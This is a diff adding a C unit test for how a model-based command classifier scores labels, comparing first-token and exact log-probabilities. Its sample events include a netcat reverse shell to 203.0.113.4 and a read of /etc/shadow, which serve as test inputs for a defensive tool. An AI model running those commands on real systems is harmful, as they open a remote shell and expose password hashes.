@@ -429,6 +429,47 @@ static void test_combiner_per_model(void **st) {
     smol_close(&x);
 }
 
+/* Label scoring both ways on the same event: first-token log-probabilities
+ * are the exact ones without the later tokens' terms, so never below them
+ * (each term is a log-probability, <= 0); an unknown scoring name in
+ * prompt.json is refused by name. */
+static void test_label_scoring_modes(void **st) {
+    (void)st;
+    smol x;
+    if (!smol_open(&x)) skip();
+    const char *dir = nj_test_tmpdir();
+    assert_non_null(dir);
+    write_prompt(dir, "{\"version\": \"t\", \"system\": \"system.txt\", \"examples\": 0, "
+                      "\"label_scoring\": \"first-token\"}");
+    analyst_opts o = {.data_dir = ".", .prompt_dir = dir, .model_name = "SmolLM2-135M-Instruct.Q4_1.gguf",
+                      .no_rules = true, .label_only = true, .no_cache = true, .explain = true,
+                      .compare_scoring = true};
+    int err = 0;
+    analyst *a = analyst_new(&o, &err);
+    if (!a) fail_msg("analyst_new: %s", nj_last_error());
+    static const char *const cmds[] = {"ls -la /srv/www", "nc -e /bin/sh 203.0.113.4 9001", "sudo cat /etc/shadow"};
+    for (size_t i = 0; i < NJ_ARRAY_LEN(cmds); i++) {
+        json_t *ev = cmd_event(cmds[i], (long)i + 1);
+        json_t *v = NULL;
+        assert_int_equal(analyst_judge(a, x.m, x.s, ev, &v), 0);
+        json_t *ex = json_object_get(v, "explain");
+        assert_string_equal(json_string_value(json_object_get(ex, "scoring")), "first-token");
+        json_t *first = json_object_get(ex, "logprobs"), *exact = json_object_get(ex, "logprobs_other");
+        assert_int_equal(json_array_size(exact), 3);
+        for (size_t l = 0; l < 3; l++) {
+            double f = json_number_value(json_array_get(first, l)), e = json_number_value(json_array_get(exact, l));
+            if (!(f <= 0 && e <= f + 1e-4)) fail_msg("%s label %zu: first-token %g, exact %g", cmds[i], l, f, e);
+        }
+        json_decref(v);
+        json_decref(ev);
+    }
+    analyst_free(a);
+    write_prompt(dir, "{\"version\": \"t\", \"system\": \"system.txt\", \"label_scoring\": \"sum\"}");
+    assert_null(analyst_new(&o, &err));
+    if (!strstr(nj_last_error(), "label_scoring")) fail_msg("error '%s' lacks label_scoring", nj_last_error());
+    smol_close(&x);
+}
+
 int main(void) {
     event_init();
     const struct CMUnitTest tests[] = {
@@ -442,6 +483,7 @@ int main(void) {
         cmocka_unit_test(test_model_path),
         cmocka_unit_test(test_rule_floor_and_injection),
         cmocka_unit_test(test_combiner_per_model),
+        cmocka_unit_test(test_label_scoring_modes),
     };
     return cmocka_run_group_tests_name("analyst", tests, NULL, NULL);
 }
